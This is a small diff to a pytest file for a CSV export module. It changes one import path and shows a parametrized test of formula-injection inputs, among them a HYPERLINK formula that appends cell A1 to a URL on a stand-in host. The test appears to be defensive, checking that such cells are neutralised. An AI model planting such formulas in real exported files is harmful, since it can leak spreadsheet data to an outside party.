@@ -5,7 +5,7 @@ import io
 import pytest
 
 from hotline import csv_export
-from tests.transcription.calls import good_call_zh, make_transcript
+from tests.support.factories import good_call_zh, make_transcript
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
